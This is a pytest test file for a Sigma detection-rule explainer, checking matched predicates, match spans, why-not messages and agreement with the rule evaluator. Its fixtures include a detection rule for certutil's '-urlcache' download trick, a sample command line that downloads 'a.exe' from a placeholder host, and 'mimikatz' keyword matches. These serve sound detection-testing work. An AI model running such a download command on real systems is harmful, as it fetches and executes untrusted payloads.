"""Explanations of the pure core (catalog.core.sigma.explain): what matched, where, and why not.

Every expectation is read from the rule text and event written here, not from the explainer's output.
"""

import pytest

from catalog.core.sigma.evaluate import EventView, Pattern, compile_rule, matches
from catalog.core.sigma.explain import (
    PredicateRows,
    _chars,
    _spans,
    explain,
    highlight,
    matched_only,
    matched_predicates,
)
from tests.matching import test_evaluate
from tests.sigma_helpers import parse_one

CERTUTIL = """
selection_img:
    - Image|endswith: '\\certutil.exe'
    - OriginalFileName: 'CertUtil.exe'
selection_verb:
    CommandLine|windash|contains: ['-urlcache', '-verifyctl']
filter:
    ParentImage|endswith: '\\sccm.exe'
condition: 1 of selection_* and not filter
"""


def rows(rule):
    return [(s.name, p.group, p.field, p.modifiers, p.values) for s in rule.stages[1:] for p in s.predicates]


def explained(detection, event):
    rule = parse_one(detection)
    compiled = compile_rule(rule.condition_tree, rows(rule))
    return explain(compiled, rows(rule), event), matches(compiled, event)


def predicates_of(explanation, block):
    found = next(b for b in explanation["blocks"] if b["name"] == block)
    return [p for group in found["groups"] for p in group["predicates"]]


def test_a_fired_rule_names_its_matched_predicates_values_and_spans():
    command = "certutil.exe /urlcache -f http://x/a.exe"
    event = {"Image": "C:\\Windows\\System32\\CertUtil.exe", "CommandLine": command}
    explanation, verdict = explained(CERTUTIL, event)
    assert explanation["fired"] is verdict is True
    image = predicates_of(explanation, "selection_img")[0]
    assert image["field"] == "Image" and image["modifiers"] == ["endswith"] and image["result"] is True
    start, end = image["matches"][0]
    assert image["event_value"][start:end].lower() == "\\certutil.exe"
    verb = predicates_of(explanation, "selection_verb")[0]
    start, end = verb["matches"][0]
    assert command[start:end] == "/urlcache"  # the windash form the event used, found in place
    assert [piece for piece, lit in highlight(verb["event_value"], verb["matches"]) if lit] == ["/urlcache"]
    # the condition tree: the `not filter` branch is true because the filter's field is missing
    top = explanation["condition"][0]
    assert top["op"] == "and" and top["result"] is True
    negation = top["args"][1]
    assert negation["op"] == "not" and negation["result"] is True and negation["args"][0]["result"] is False
    assert predicates_of(explanation, "filter")[0]["missing"] is True
    assert explanation["why_not"] is None


def test_why_not_names_the_excluding_block_that_matched():
    event = {"Image": "C:\\certutil.exe", "CommandLine": "x", "ParentImage": "D:\\sccm.exe"}
    explanation, verdict = explained(CERTUTIL, event)
    assert explanation["fired"] is verdict is False
    assert explanation["why_not"]["block"] == "filter" and explanation["why_not"]["expected"] is False
    assert explanation["why_not"]["predicate"]["event_value"] == "D:\\sccm.exe"


def test_why_not_names_the_first_failing_predicate_and_its_value():
    detection = "sel:\n  Image|endswith: '\\net.exe'\n  CommandLine|contains: ' use '\ncondition: sel"
    explanation, verdict = explained(detection, {"Image": "C:\\net.exe", "CommandLine": "net view"})
    assert explanation["fired"] is verdict is False
    why = explanation["why_not"]
    assert why["block"] == "sel" and why["predicate"]["field"] == "CommandLine"
    assert why["predicate"]["event_value"] == "net view" and "net view" in why["message"]
    explanation, _ = explained(detection, {"Image": "C:\\net.exe"})
    assert explanation["why_not"]["predicate"]["missing"] is True
    assert "no field 'CommandLine'" in explanation["why_not"]["message"]


def test_keywords_are_found_in_the_field_that_holds_them():
    explanation, verdict = explained(
        "keywords:\n  - 'mimikatz'\ncondition: keywords", {"A": "x", "Msg": "ran MimiKatz"}
    )
    predicate = predicates_of(explanation, "keywords")[0]
    assert verdict is True and predicate["event_field"] == "Msg"
    start, end = predicate["matches"][0]
    assert "ran MimiKatz"[start:end] == "MimiKatz"


def test_undecidable_parts_are_marked_unknown():
    explanation, verdict = explained("sel:\n  U|expand: '%admins%'\ncondition: not sel", {"U": "%admins%"})
    assert verdict is False and explanation["fired"] is False
    assert explanation["condition"][0]["result"] is None
    assert "undecidable" in explanation["why_not"]["message"]


def test_offsets_count_characters_not_bytes():
    explanation, _ = explained("sel:\n  A|contains: 'zz'\ncondition: sel", {"A": "ééé zz"})
    start, end = predicates_of(explanation, "sel")[0]["matches"][0]
    assert "ééé zz"[start:end] == "zz"


@pytest.mark.parametrize("case", test_evaluate.test_sigma_semantics.pytestmark[0].args[1])
def test_the_explanation_verdict_is_the_evaluator_verdict(case):
    detection, event, expected = case
    explanation, verdict = explained(detection, event)
    assert explanation["fired"] is verdict is expected


NEGATED_AND_ALL = [
    ("sel:\n  A|neq: 'x'\ncondition: sel", {"A": "y"}),
    ("sel:\n  A|neq: 'x'\ncondition: sel", {"A": "x"}),
    ("sel:\n  A|contains|all: ['ab', 'zz']\ncondition: sel", {"A": "abc"}),
    ("sel:\n  A|contains: ['ab', 'zz']\nf:\n  B|endswith: 'q'\ncondition: sel and not f", {"A": "zzab", "B": "qq"}),
    ("keywords:\n  - 'mimi'\n  - 'katz'\ncondition: not keywords", {"A": "x", "B": "katz"}),
]


@pytest.mark.parametrize(
    "case", [case[:2] for case in test_evaluate.test_sigma_semantics.pytestmark[0].args[1]] + NEGATED_AND_ALL
)
def test_each_predicate_shows_every_match_of_its_patterns(case):
    """Spans are only searched for where a pattern can have matched: what is shown is what searching every
    pattern of every predicate finds (field items: in their value; keywords: in the first value holding one)."""
    detection, event = case
    rule = parse_one(detection)
    compiled = compile_rule(rule.condition_tree, rows(rule))
    explanation, view = explain(compiled, rows(rule), event), EventView(event)
    kept = PredicateRows(rows(rule))  # as rule_parts keeps them: grouped once, the same explanation every time
    assert explain(compiled, kept, event) == explanation == explain(compiled, kept, event)
    for block in explanation["blocks"]:
        for group, items in zip(block["groups"], compiled.blocks[block["name"]].groups, strict=True):
            for shown, item in zip(group["predicates"], items, strict=True):
                programs = [value for value in item.values if isinstance(value, Pattern)]
                keys = [view.lookup(item.field)] if item.field else list(event)
                found = [(k, _spans(programs, view.text(k))) for k in keys if k and event[k] is not None]
                found = [(key, spans) for key, spans in found if spans]
                if not found:
                    assert shown["matches"] == []
                    continue
                key, spans = found[0]
                assert shown["event_field"] == key and shown["matches"] == _chars(view.text(key), spans)


MAPS_AND_BLOCKS = [  # lists of maps (one holds, one does not), several blocks that hold, a map failing late
    ("sel:\n  - A: 'x'\n    B: 'y'\n  - A|contains: 'b'\ncondition: sel", {"A": "abc", "B": "y"}),
    ("sel:\n  - A: 'abc'\n    B: 'y'\n  - A|contains: 'b'\ncondition: sel", {"A": "abc", "B": "y"}),
    ("sel_a:\n  A|startswith: 'ab'\nsel_b:\n  B: 'y'\ncondition: 1 of sel_*", {"A": "abc", "B": "y"}),
    ("sel:\n  A|endswith: 'c'\n  B: 'n'\n  C|re: '^z'\ncondition: sel", {"A": "abc", "B": "y", "C": "zz"}),
]


@pytest.mark.parametrize(
    "case",
    [case[:2] for case in test_evaluate.test_sigma_semantics.pytestmark[0].args[1]] + NEGATED_AND_ALL + MAPS_AND_BLOCKS,
)
def test_matched_only_is_what_the_whole_explanation_says_matched(case):
    """A scan prints the matched predicates of its hits without building their explanations: the same list, for
    rules that fire and rules that do not, with rows as stored and as rule_parts keeps them."""
    detection, event = case
    rule = parse_one(detection)
    compiled = compile_rule(rule.condition_tree, rows(rule))
    expected = matched_predicates(explain(compiled, rows(rule), event))
    assert matched_only(compiled, rows(rule), event) == expected
    assert matched_only(compiled, PredicateRows(rows(rule)), EventView(event)) == expected


def test_matched_only_lays_open_every_map_that_holds_and_no_other():
    detection, event = MAPS_AND_BLOCKS[1]
    rule = parse_one(detection)
    found = matched_only(compile_rule(rule.condition_tree, rows(rule)), rows(rule), event)
    assert [(m["predicate"], m["field"], m["matched"]) for m in found] == [
        ("A", "A", ["abc"]), ("B", "B", ["y"]), ("A|contains", "A", ["b"])
    ]  # fmt: skip
    detection, event = MAPS_AND_BLOCKS[3]
    rule = parse_one(detection)
    assert matched_only(compile_rule(rule.condition_tree, rows(rule)), rows(rule), event) == []
